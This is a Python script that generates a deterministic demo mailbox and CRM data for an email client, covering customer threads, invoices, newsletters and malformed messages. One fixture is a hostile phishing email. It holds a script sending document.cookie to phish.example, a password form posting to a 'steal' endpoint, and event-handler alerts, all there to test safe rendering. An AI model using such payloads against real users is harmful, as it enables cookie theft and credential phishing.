#!/usr/bin/env python3
"""Generate Holub's demo mailbox (demo.mbox) and its local CRM data (crm.json).

Run from anywhere: ``python resources/demo/make_demo.py``. The output is
deterministic (fixed seed, dates relative to BASE_DATE, fixed MIME boundaries),
so re-running it gives byte-identical files and a clean git diff.

The mailbox belongs to Petra Nováková of Studio Vlaštovka, a small Brno design
and print studio. Her customers are the CRM's companies; subjects carry the
CRM's project and task ids as ``#1234#``; conversations are threaded with
In-Reply-To/References; there are attachments (PDF, PNG, CSV made here), an
inline ``cid:`` logo, HTML newsletters with remote images and a tracking pixel,
a hostile HTML message and a few deliberately malformed messages.
"""

from __future__ import annotations

import json
import random
import struct
import zlib
from datetime import datetime, timedelta, timezone
from email.message import EmailMessage
from email.policy import default as default_policy
from email.utils import format_datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
SEED = 20261102
BASE_DATE = datetime(2026, 11, 2, 9, 0, tzinfo=timezone(timedelta(hours=1)))
OWNER = ("Petra Nováková", "petra@vlastovka-studio.cz")
COLLEAGUE = ("Ondřej Beneš", "ondrej@vlastovka-studio.cz")
DOMAIN = "vlastovka-studio.cz"

# --- CRM ---------------------------------------------------------------------------

COMPANIES = [
    # id, name, e-mail, language, contacts [(id, name, e-mail)]
    (101, "Pekárna U Mlýna s.r.o.", "info@pekarna-umlyna.cz", "cs",
     [(501, "Jan Dvořák", "jan.dvorak@pekarna-umlyna.cz"),
      (502, "Marie Svobodová", "marie.svobodova@pekarna-umlyna.cz")]),
    (102, "Vinařství Horák", "obchod@vinarstvi-horak.cz", "cs",
     [(503, "Tomáš Horák", "tomas@vinarstvi-horak.cz")]),
    (103, "Autoservis Kolář s.r.o.", "servis@autoservis-kolar.cz", "cs",
     [(504, "Pavel Kolář", "pavel.kolar@autoservis-kolar.cz")]),
    (104, "Green Leaf Tea Ltd", "hello@greenleaftea.co.uk", "en",
     [(505, "Emma Clarke", "emma.clarke@greenleaftea.co.uk"),
      (506, "Oliver Grant", "oliver.grant@greenleaftea.co.uk")]),
    (105, "Nordic Bikes AB", "info@nordicbikes.se", "en",
     [(507, "Lars Eriksson", "lars.eriksson@nordicbikes.se")]),
    (106, "Městská knihovna Beroun", "knihovna@knihovna-beroun.cz", "cs",
     [(508, "Eva Malá", "eva.mala@knihovna-beroun.cz")]),
    (107, "Brightline Consulting GmbH", "office@brightline-consulting.de", "en",
     [(509, "Sabine Weber", "s.weber@brightline-consulting.de")]),
    (108, "Kavárna Na Rohu", "ahoj@kavarnanarohu.cz", "cs",
     [(510, "Lucie Benešová", "lucie@kavarnanarohu.cz")]),
    (109, "Hotel Podlesí", "recepce@hotel-podlesi.cz", "cs",
     [(511, "Martin Král", "martin.kral@hotel-podlesi.cz")]),
]
# A freelance photographer working for two customers: an ambiguous address, so
# pairing raises a signal instead of filing.
SHARED_CONTACTS = [
    (512, 101, "Karel Novák", "karel@novakfoto.cz"),
    (513, 109, "Karel Novák", "karel@novakfoto.cz"),
]
PROJECTS = [
    (1201, "Nový web pekárny", 101),
    (1202, "Vinné etikety 2027", 102),
    (1203, "Green Leaf packaging redesign", 104),
    (1204, "Nordic Bikes spring catalogue", 105),
    (1205, "Noc literatury — plakáty a letáky", 106),
    (1206, "Brightline annual report 2026", 107),
    (1207, "Nový jídelní lístek", 108),
    (1208, "Vizuální identita hotelu", 109),
    (1209, "Autoservis — reklamní plachta", 103),
]
TASKS = [
    # id, name, project, due (days after BASE_DATE, None: no due date), finished, assignee
    (3301, "Fotografie produktů", 1201, -6, True, 1),
    (3302, "Texty pro web", 1201, 9, False, 2),
    (3303, "Tisk etiket — Ryzlink rýnský", 1202, 3, False, 1),
    (3304, "Tea tin mock-ups", 1203, 16, False, 1),
    (3305, "Catalogue print quote", 1204, -2, False, 2),
    (3306, "Report infographics", 1206, 23, False, 1),
    (3307, "Varianty loga", 1208, None, False, 1),
    (3308, "Plakát A2", 1205, -10, True, 2),
    (3309, "Korektura lístku", 1207, 5, False, None),
]

# --- words ---------------------------------------------------------------------------

CS_GREETINGS = ["Dobrý den,", "Dobrý den, paní Nováková,", "Ahoj Petro,", "Zdravím,"]
CS_SIGNOFFS = ["S pozdravem", "Děkuji a zdravím", "Hezký den", "S přáním hezkého dne"]
EN_GREETINGS = ["Hi Petra,", "Hello Petra,", "Dear Petra,", "Hi there,"]
EN_SIGNOFFS = ["Best regards,", "Kind regards,", "Thanks,", "Cheers,"]
CS_LINES = [
    "posílám slíbené podklady, snad je vše v pořádku.",
    "mohli bychom se sejít příští týden a probrat další postup?",
    "děkujeme za návrh, líbí se nám hlavně druhá varianta.",
    "prosím o drobnou úpravu barev — zelená je na monitoru trochu výrazná.",
    "termín tisku bychom potřebovali posunout o týden.",
    "v příloze je aktualizovaný ceník, platí od prosince.",
    "můžete nám prosím poslat cenovou nabídku na 2 000 kusů?",
    "fotky z focení jsou hotové, vybrali jsme dvanáct nejlepších.",
    "faktura je uhrazena, děkujeme za rychlé dodání.",
    "texty jsme prošli s kolegy, máme jen pár poznámek.",
]
EN_LINES = [
    "please find the updated brief attached.",
    "could we move our call to Thursday afternoon?",
    "the team loved the second concept — let's go with it.",
    "the printer needs final files by Friday, is that doable?",
    "we'd like a quote for 5,000 units with a matte finish.",
    "the colours look slightly off on the proof, can you check the CMYK values?",
    "thanks for the quick turnaround, much appreciated.",
    "I've shared the photos, let me know which ones work best.",
    "invoice received and paid, thank you.",
    "one more round of small edits and we're done.",
]
CS_REPLIES = [
    "děkuji, podívám se na to ještě dnes a ozvu se.",
    "úpravy jsem zapracovala, nová verze je v příloze.",
    "čtvrtek mi vyhovuje, navrhuji 14:00 u nás ve studiu.",
    "cenovou nabídku pošlu do zítřka.",
    "rozumím, termín posuneme, tiskárna to zvládne.",
]
EN_REPLIES = [
    "thanks, I'll have a look today and get back to you.",
    "I've made the changes — the new version is attached.",
    "Thursday works for me, shall we say 2 pm CET?",
    "I'll send the quote by tomorrow.",
    "understood, we'll adjust the schedule with the printer.",
]
THREAD_SUBJECTS_CS = [
    "Podklady k projektu", "Návrh — druhé kolo", "Termín tisku", "Cenová nabídka",
    "Schůzka příští týden", "Úprava barev", "Korektury", "Fotografie",
]
THREAD_SUBJECTS_EN = [
    "Project brief", "Second round of concepts", "Print deadline", "Quote request",
    "Call next week", "Colour proof", "Final edits", "Photos",
]

# --- small binary attachments ---------------------------------------------------------


def make_png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A small gradient PNG, no imaging library needed."""
    rows = b""
    for y in range(height):
        shade = 155 + (100 * y) // max(1, height - 1)
        pixel = bytes(min(255, c * shade // 255) for c in rgb)
        rows += b"\x00" + pixel * width

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )


def make_pdf(lines: list[str]) -> bytes:
    """A one-page PDF with a few lines of (ASCII) text."""
    text = "BT /F1 14 Tf 72 760 Td 18 TL " + " ".join(
        "(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") '"
        for line in lines
    ) + " ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text.encode("ascii")),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return out


def make_csv(rng: random.Random) -> bytes:
    rows = ["položka;množství;cena za kus (Kč)"]
    for name in ["Vizitky", "Letáky A5", "Plakáty A2", "Etikety", "Katalog A4"]:
        rows.append(f"{name};{rng.choice([100, 250, 500, 1000])};{rng.randint(2, 90)},{rng.randint(0, 99):02d}")
    return ("\n".join(rows) + "\n").encode("utf-8")


# --- building messages ----------------------------------------------------------------


class Builder:
    def __init__(self) -> None:
        self.rng = random.Random(SEED)
        self.messages: list[bytes] = []  # raw RFC 5322 bytes, in mbox order
        self.dates: list[datetime] = []
        self.counter = 0
        self.boundary = 0

    def new_id(self, slug: str) -> str:
        self.counter += 1
        return f"<demo.{self.counter:04d}.{slug}@{DOMAIN}>"

    def when(self, days_ago: float) -> datetime:
        minutes = self.rng.randint(0, 9 * 60)
        return (BASE_DATE - timedelta(days=days_ago)).replace(hour=8, minute=0) + timedelta(
            minutes=minutes
        )

    def add(self, msg: EmailMessage, date: datetime) -> None:
        # Fixed boundaries keep the output byte-identical between runs.
        for part in msg.walk():
            if part.is_multipart():
                self.boundary += 1
                part.set_boundary(f"=_holub_demo_{self.boundary:05d}")
        self.messages.append(msg.as_bytes(policy=default_policy))
        self.dates.append(date)

    def add_raw(self, raw: bytes, date: datetime) -> None:
        self.messages.append(raw)
        self.dates.append(date)

    def email(
        self,
        *,
        sender: tuple[str, str],
        to: list[tuple[str, str]],
        subject: str,
        text: str,
        date: datetime,
        message_id: str,
        cc: list[tuple[str, str]] | None = None,
        in_reply_to: str = "",
        references: list[str] | None = None,
        html: str | None = None,
        attachments: list[tuple[str, str, bytes]] | None = None,
        related: list[tuple[str, str, bytes]] | None = None,
        extra_headers: dict[str, str] | None = None,
    ) -> EmailMessage:
        msg = EmailMessage()
        msg["From"] = _addr(sender)
        msg["To"] = ", ".join(_addr(a) for a in to)
        if cc:
            msg["Cc"] = ", ".join(_addr(a) for a in cc)
        msg["Subject"] = subject
        msg["Date"] = format_datetime(date)
        msg["Message-ID"] = message_id
        if in_reply_to:
            msg["In-Reply-To"] = in_reply_to
        if references:
            msg["References"] = " ".join(references)
        for key, value in (extra_headers or {}).items():
            msg[key] = value
        msg.set_content(text)
        if html is not None:
            msg.add_alternative(html, subtype="html")
            if related:
                html_part = msg.get_payload()[1]
                for cid, ctype, data in related:
                    maintype, subtype = ctype.split("/")
                    html_part.add_related(data, maintype, subtype, cid=f"<{cid}>")
        for filename, ctype, data in attachments or []:
            maintype, subtype = ctype.split("/")
            msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
        self.add(msg, date)
        return msg


def _addr(pair: tuple[str, str]) -> str:
    from email.headerregistry import Address

    name, addr = pair
    user, domain = addr.split("@")
    return str(Address(display_name=name, username=user, domain=domain))


def _signature(lang: str, name: str, company: str) -> str:
    return f"\n\n{name}\n{company}"


def owner_signature() -> str:
    return "\n\n--\nPetra Nováková\nStudio Vlaštovka s.r.o. · grafika a tisk\n+420 600 123 456"


# --- content generators ----------------------------------------------------------------


def build() -> Builder:
    b = Builder()
    rng = b.rng
    companies = {c[0]: c for c in COMPANIES}
    projects = {p[0]: p for p in PROJECTS}
    tasks_by_project: dict[int, list[tuple]] = {}
    for task in TASKS:
        tasks_by_project.setdefault(task[2], []).append(task)
    png_logo = make_png(48, 16, (40, 110, 190))

    # 1. Conversations about each project (and its tasks), 4 threads per project.
    for project_id, project_name, company_id in PROJECTS:
        cid_, cname, cmail, lang, contacts = companies[company_id]
        for thread_no in range(4):
            contact = contacts[thread_no % len(contacts)][1:]
            task_list = tasks_by_project.get(project_id, [])
            if thread_no in (1, 3) and len(task_list) > thread_no // 3:
                tag_id, tag_name = task_list[thread_no // 3][:2]
            else:
                tag_id, tag_name = project_id, project_name
            pool = THREAD_SUBJECTS_CS if lang == "cs" else THREAD_SUBJECTS_EN
            topic = rng.choice(pool)
            subject = f"{topic}: {tag_name} #{tag_id}#"
            if thread_no == 2:
                subject = f"{topic} – {cname}"  # no tag: pairs by address only
            start = rng.uniform(3, 58)
            length = rng.randint(2, 6)
            refs: list[str] = []
            for i in range(length):
                from_customer = i % 2 == 0
                date = b.when(start - i * rng.uniform(0.1, 1.2))
                msg_id = b.new_id(f"p{project_id}t{thread_no}m{i}")
                if from_customer:
                    sender, to = contact, [OWNER]
                    greet = rng.choice(CS_GREETINGS if lang == "cs" else EN_GREETINGS)
                    line = rng.choice(CS_LINES if lang == "cs" else EN_LINES)
                    bye = rng.choice(CS_SIGNOFFS if lang == "cs" else EN_SIGNOFFS)
                    text = f"{greet}\n\n{line.capitalize()}\n\n{bye}{_signature(lang, contact[0], cname)}"
                else:
                    sender, to = OWNER, [contact]
                    greet = "Dobrý den," if lang == "cs" else f"Hi {contact[0].split()[0]},"
                    line = rng.choice(CS_REPLIES if lang == "cs" else EN_REPLIES)
                    text = f"{greet}\n\n{line.capitalize()}{owner_signature()}"
                if i:
                    prefix = "Re: " if lang == "en" or rng.random() < 0.7 else "Odp: "
                    quoted = "\n".join("> " + ln for ln in prev_text.splitlines())
                    text = f"{text}\n\n{quoted}"
                    subj = prefix + subject
                else:
                    subj = subject
                attachments = []
                # A message that says something is attached has it attached.
                if "ceník" in text.split("\n\n>")[0]:
                    attachments.append(("cenik.csv", "text/csv", make_csv(rng)))
                elif "brief attached" in text.split("\n\n>")[0]:
                    pdf = make_pdf([f"Brief: {tag_name}"[:60].encode("ascii", "replace").decode()])
                    attachments.append((f"brief-{tag_id}.pdf", "application/pdf", pdf))
                elif "podklady" in text.split("\n\n>")[0]:
                    attachments.append((f"podklady-{tag_id}.png", "image/png",
                                        make_png(40, 30, (90, 160, 80))))
                elif "attached" in text.split("\n\n>")[0] or "v příloze" in text.split("\n\n>")[0]:
                    attachments.append((f"navrh-{tag_id}-v{i + 1}.png", "image/png",
                                        make_png(32, 24, (200, 90, 60))))
                elif i == length - 1 and rng.random() < 0.35:
                    attachments.append(
                        (f"navrh-{tag_id}-v{i + 1}.png", "image/png", make_png(32, 24, (200, 90, 60)))
                    )
                cc = [COLLEAGUE] if not from_customer and rng.random() < 0.3 else None
                b.email(
                    sender=sender,
                    to=to,
                    cc=cc,
                    subject=subj,
                    text=text,
                    date=date,
                    message_id=msg_id,
                    in_reply_to=refs[-1] if refs else "",
                    references=list(refs) if refs else None,
                    attachments=attachments,
                )
                refs.append(msg_id)
                prev_text = text

    # 2. Invoices with a PDF, price lists with a CSV, from the studio.
    for n, (company_id, project_id) in enumerate([(101, 1201), (102, 1202), (104, 1203),
                                                   (105, 1204), (107, 1206), (108, 1207),
                                                   (109, 1208), (103, 1209)]):
        _, cname, cmail, lang, contacts = companies[company_id]
        number = f"2026-{410 + n:04d}"
        date = b.when(rng.uniform(1, 40))
        if lang == "cs":
            subject = f"Faktura {number} #{project_id}#"
            text = (f"Dobrý den,\n\nv příloze posíláme fakturu č. {number} za projekt "
                    f"„{projects[project_id][1]}“.\nSplatnost 14 dní.{owner_signature()}")
        else:
            subject = f"Invoice {number} #{project_id}#"
            text = (f"Hello,\n\nplease find attached invoice no. {number} for "
                    f"\"{projects[project_id][1]}\". Payment due in 14 days.{owner_signature()}")
        pdf = make_pdf([f"Studio Vlastovka s.r.o. - invoice {number}", f"Customer: {cmail}",
                        f"Amount: {rng.randint(8, 95) * 1000} CZK"])
        b.email(sender=OWNER, to=[(cname, cmail)], subject=subject, text=text, date=date,
                message_id=b.new_id(f"invoice{n}"),
                attachments=[(f"faktura-{number}.pdf", "application/pdf", pdf)])
    for n, company_id in enumerate([101, 106, 108]):
        _, cname, cmail, lang, contacts = companies[company_id]
        b.email(sender=OWNER, to=[contacts[0][1:]], subject="Ceník tiskovin 2027",
                text=f"Dobrý den,\n\nposílám ceník tiskovin na příští rok (CSV pro Excel).{owner_signature()}",
                date=b.when(rng.uniform(5, 30)), message_id=b.new_id(f"pricelist{n}"),
                attachments=[("cenik-2027.csv", "text/csv", make_csv(rng))])

    # 3. HTML messages from customers with an inline (cid:) logo in the signature.
    for n, company_id in enumerate([104, 107, 105]):
        _, cname, cmail, lang, contacts = companies[company_id]
        person = contacts[0][1:]
        html = (
            f"<p>Hi Petra,</p><p>quick note: the <b>print run</b> is confirmed, see the "
            f"<a href=\"https://www.example.com/orders/{n + 7}\">order page</a>.</p>"
            f"<p>Best,<br>{person[0]}</p>"
            f"<p><img src=\"cid:logo{n}@{cmail.split('@')[1]}\" alt=\"{cname}\" width=96></p>"
        )
        b.email(sender=person, to=[OWNER], subject=f"Print run confirmed – {cname}",
                text=f"Hi Petra,\n\nquick note: the print run is confirmed.\n\nBest,\n{person[0]}",
                html=html, date=b.when(rng.uniform(1, 20)), message_id=b.new_id(f"html{n}"),
                related=[(f"logo{n}@{cmail.split('@')[1]}", "image/png", png_logo)])

    # 4. Newsletters: HTML with remote images and a tracking pixel (blocked until consent).
    for n in range(6):
        date = b.when(2 + n * 9.5)
        issue = 40 + n
        html = f"""<html><head><link rel="dns-prefetch" href="//cdn.newsletter.example.com">
<style>.hero {{ background: url(https://cdn.newsletter.example.com/hero-{issue}.jpg) center/cover; }}
body {{ font-family: Georgia, serif; }}</style></head><body>
<table width="600" align="center" cellpadding="12"><tr><td class="hero">
<img src="https://cdn.newsletter.example.com/logo.png" alt="PrintWeekly" width="200">
<h1>PrintWeekly #{issue}</h1></td></tr>
<tr><td><h2>Paper prices in {['November', 'October', 'September', 'August', 'July', 'June'][n]}</h2>
<p>Coated paper went up again; recycled stock is now cheaper than virgin fibre.</p>
<p><img src="https://cdn.newsletter.example.com/chart-{issue}.png" alt="Chart" width="560"></p>
<p><a href="https://click.newsletter.example.com/r?u=8812&amp;l=read-more">Read more</a> ·
<a href="https://click.newsletter.example.com/unsubscribe?u=8812">Unsubscribe</a></p>
<img src="https://track.newsletter.example.com/open.gif?u=8812&amp;i={issue}" width="1" height="1" alt="">
</td></tr></table></body></html>"""
        b.email(sender=("PrintWeekly", "news@newsletter.example.com"), to=[OWNER],
                subject=f"PrintWeekly #{issue}: paper prices, new inks, trade fair dates",
                text="Your e-mail client does not show HTML. Read online: "
                     "https://newsletter.example.com/issues/" + str(issue),
                html=html, date=date, message_id=b.new_id(f"newsletter{issue}"),
                extra_headers={"List-Unsubscribe": "<https://click.newsletter.example.com/unsubscribe?u=8812>"})
    for n in range(3):
        html = (f"<div style=\"background:url('https://static.papirna.example/bg.jpg')\">"
                f"<img src=\"https://static.papirna.example/akce-{n}.jpg\" alt=\"Akce\">"
                f"<h2>Akční nabídka papíru — {['listopad', 'říjen', 'září'][n]}</h2>"
                f"<p>Sleva 15 % na křídový papír 150 g. "
                f"<a href=\"https://www.papirna.example/akce\">Objednat</a></p></div>")
        b.email(sender=("Papírna Šumava", "obchod@papirna.example"), to=[OWNER],
                subject=f"Akční nabídka papíru — {['listopad', 'říjen', 'září'][n]}",
                text="Sleva 15 % na křídový papír 150 g. https://www.papirna.example/akce",
                html=html, date=b.when(3 + n * 20), message_id=b.new_id(f"papirna{n}"))

    # 5. New enquiries (company address, no tag yet) and the ambiguous photographer.
    enquiries = [
        (103, "Poptávka: reklamní plachta 3 × 1 m",
         "Dobrý den,\n\nchtěli bychom plachtu na plot dílny, 3 × 1 m, s logem a telefonem.\n"
         "Kolik by to stálo?\n\nPavel Kolář"),
        (106, "Poptávka: plakáty na Noc literatury",
         "Dobrý den,\n\nletos bychom opět rádi plakáty A2 a letáky A5.\n\nEva Malá"),
        (105, "Enquiry: dealer leaflets",
         "Hello,\n\nwe need 3,000 leaflets for our dealers in Czechia. Can you help?\n\nLars"),
        (108, "Svatební oznámení pro majitelku",
         "Ahoj Petro,\n\nnaše majitelka se bude vdávat, zvládnete i svatební oznámení?\n\nLucie"),
    ]
    for n, (company_id, subject, text) in enumerate(enquiries):
        _, cname, cmail, lang, contacts = companies[company_id]
        b.email(sender=(cname, cmail), to=[OWNER], subject=subject, text=text,
                date=b.when(rng.uniform(0.2, 6)), message_id=b.new_id(f"enquiry{n}"))
    for n in range(3):
        b.email(sender=("Karel Novák", "karel@novakfoto.cz"), to=[OWNER],
                subject=["Fotky z focení", "Další várka fotek", "Faktura za focení"][n],
                text="Ahoj Petro,\n\nposílám odkaz na fotky: https://www.novakfoto.example/galerie\n\nKarel",
                date=b.when(4 + n * 7), message_id=b.new_id(f"photo{n}"))

    # 6. Internal mail and notifications (nothing to pair).
    internal = [
        ("Porada v pondělí", "Ahoj,\n\nporada bude v pondělí v 9:00. Vezmi prosím vzorky papíru.\n\nOndřej"),
        ("Nová tiskárna v kanceláři", "Ahoj,\n\nnová tiskárna je zapojená, ovladače jsou na sdíleném disku.\n\nO."),
        ("Dovolená", "Ahoj Petro,\n\nod 20. do 24. 12. budu na horách, zástup za mě máš ty.\n\nOndřej"),
        ("Zálohy", "Ahoj,\n\nzálohování serveru běží každou noc ve 2:00.\n\nO."),
        ("Vánoční večírek", "Ahoj,\n\nvečírek bude 18. 12. v Kavárně Na Rohu. Přijdeš?\n\nOndřej"),
        ("Objednávka tonerů", "Ahoj,\n\nobjednal jsem tonery, dorazí ve čtvrtek.\n\nO."),
        ("Re: Sdílený disk", "Ahoj,\n\nsložku se zakázkami jsem přesunul do /projekty/2026.\n\nO."),
        ("Company trip", "Hi Petra,\n\nthe printing fair in Brno is on 5 March — shall we go?\n\nOndřej"),
    ]
    for n, (subject, text) in enumerate(internal):
        b.email(sender=COLLEAGUE, to=[OWNER], subject=subject, text=text,
                date=b.when(rng.uniform(1, 50)), message_id=b.new_id(f"internal{n}"))
    months = ["říjen", "září", "srpen", "červenec", "červen", "květen", "duben", "březen"]
    for n in range(8):
        b.email(sender=("Banka", "info@banka.example"), to=[OWNER],
                subject=f"Výpis z účtu za {months[n]}",
                text="Dobrý den,\n\nvýpis z účtu je připraven v internetovém bankovnictví.\n\nVaše banka",
                date=b.when(1 + n * 7.3), message_id=b.new_id(f"bank{n}"))

    # 7. A hostile message: what the safe reader is for.
    hostile = """<html><head><meta http-equiv="refresh" content="0;url=https://phish.example/">
<base href="https://phish.example/"><script>document.location='https://phish.example/?c='+document.cookie</script>
</head><body onload="alert('boo')"><p>Vážená klientko,</p>
<p>váš účet bude zablokován. <a href="https://phish.example/login" title="https://banka.example">Přihlaste se zde</a>.</p>
<img src="https://phish.example/pixel.gif" onerror="alert(1)"><iframe src="https://phish.example/frame"></iframe>
<form action="https://phish.example/steal"><input name="password" type="password"></form>
<div style="background:url(https://phish.example/bg.png)">Bezpečnostní oddělení</div>
<svg onload="alert(2)"><script>alert(3)</script></svg></body></html>"""
    b.email(sender=("Bezpečnost banky", "security@banka-secure.example"), to=[OWNER],
            subject="Váš účet bude zablokován!", text="Váš účet bude zablokován.", html=hostile,
            date=b.when(0.5), message_id=b.new_id("phish"))

    # 8. Malformed messages: stored and shown (as raw source if need be), never dropped.
    malformed = [
        (12, b"From: =?windows-1250?Q?Ji=F8=ED_Proch=E1zka?= <jiri@stara-posta.example>\n"
             b"To: petra@vlastovka-studio.cz\nSubject: Star\xe1 po\x9ata \x96 bez k\xf3dov\xe1n\xed\n"
             b"Date: DATE\nMessage-ID: <demo.malformed.1@stara-posta.example>\n\n"
             b"Dobr\xfd den,\npos\xedl\xe1m zpr\xe1vu bez uveden\xe9 znakov\xe9 sady (Windows-1250).\n"),
        (15, b"From: Broken Boundary <noreply@broken.example>\nTo: petra@vlastovka-studio.cz\n"
             b"Subject: Missing MIME boundary\nDate: DATE\n"
             b"Message-ID: <demo.malformed.2@broken.example>\nMIME-Version: 1.0\n"
             b"Content-Type: multipart/mixed\n\n--nothing\nContent-Type: text/plain\n\nThe boundary "
             b"parameter is missing, so this body cannot be split into parts.\n--nothing--\n"),
        (18, b"From: Odd Date <odd@broken.example>\nTo: petra@vlastovka-studio.cz\n"
             b"Subject: =?utf-8?B?invalid base64!!?= and =?unknown-charset?Q?x?=\n"
             b"Date: Someday, 32 Foo 20xx 25:61\nMessage-ID: <demo.malformed.3@broken.example>\n"
             b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
             b"VGhpcyBiYXNlNjQgaXMgY3V0IHNob3J0IGFuZCBoYXMgYmFkIHBhZGRpbmc=x=\n"),
        (19, b"\x00\x01\x02 this is not an e-mail at all \xff\xfe\n\nbinary junk\n"),
        (20, b"From: Empty Body <empty@broken.example>\nTo: petra@vlastovka-studio.cz\n"
             b"Subject: (prazdna zprava)\nDate: DATE\nMessage-ID: <demo.malformed.5@broken.example>\n"
             b"Content-Type: multipart/alternative; boundary=\"b1\"\n\n--b1\n--b1--\n"),
    ]
    for days, raw in malformed:
        date = b.when(days)
        b.add_raw(raw.replace(b"DATE", format_datetime(date).encode()), date)
    return b


def write_mbox(b: Builder, path: Path) -> None:
    out = bytearray()
    for raw, date in sorted(zip(b.messages, b.dates, strict=True), key=lambda x: x[1]):
        stamp = date.astimezone(timezone.utc).strftime("%a %b %d %H:%M:%S %Y")
        out += f"From MAILER-DAEMON {stamp}\n".encode()
        for line in raw.replace(b"\r\n", b"\n").split(b"\n"):
            # mboxrd quoting: any ">*From " line gets one more ">".
            if line.lstrip(b">").startswith(b"From "):
                line = b">" + line
            out += line + b"\n"
        if not raw.endswith(b"\n"):
            out += b"\n"
    path.write_bytes(bytes(out))


def crm_json() -> dict:
    contacts = [
        {"id": cid, "company_id": company_id, "name": name, "email": email}
        for company_id, _, _, _, people in COMPANIES
        for cid, name, email in people
    ]
    contacts += [
        {"id": cid, "company_id": company_id, "name": name, "email": email}
        for cid, company_id, name, email in SHARED_CONTACTS
    ]
    project_company = {p[0]: p[2] for p in PROJECTS}
    return {
        "about": "Holub demo CRM data; generated by resources/demo/make_demo.py",
        "owner": {"name": OWNER[0], "email": OWNER[1]},
        "users": [
            {"id": 1, "name": OWNER[0], "email": OWNER[1]},
            {"id": 2, "name": COLLEAGUE[0], "email": COLLEAGUE[1]},
        ],
        "companies": [
            {"id": cid, "name": name, "email": email} for cid, name, email, _, _ in COMPANIES
        ],
        "contacts": contacts,
        "projects": [{"id": pid, "name": name, "company_id": cid} for pid, name, cid in PROJECTS],
        # Caflou's names for the due date, state and assignee (crm/task_fields.py).
        "tasks": [
            {
                "id": tid,
                "name": name,
                "project_id": pid,
                "company_id": project_company[pid],
                "end_date": (
                    None if due is None else (BASE_DATE + timedelta(days=due)).date().isoformat()
                ),
                "finished": finished,
                "target_user_id": assignee,
            }
            for tid, name, pid, due, finished, assignee in TASKS
        ],
    }


def main(argv: list[str] | None = None) -> None:
    import argparse

    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=HERE, help="output directory")
    out = parser.parse_args(argv).out
    out.mkdir(parents=True, exist_ok=True)
    builder = build()
    write_mbox(builder, out / "demo.mbox")
    (out / "crm.json").write_text(
        json.dumps(crm_json(), ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
    )
    print(f"{len(builder.messages)} messages → {out / 'demo.mbox'}")


if __name__ == "__main__":
    main()
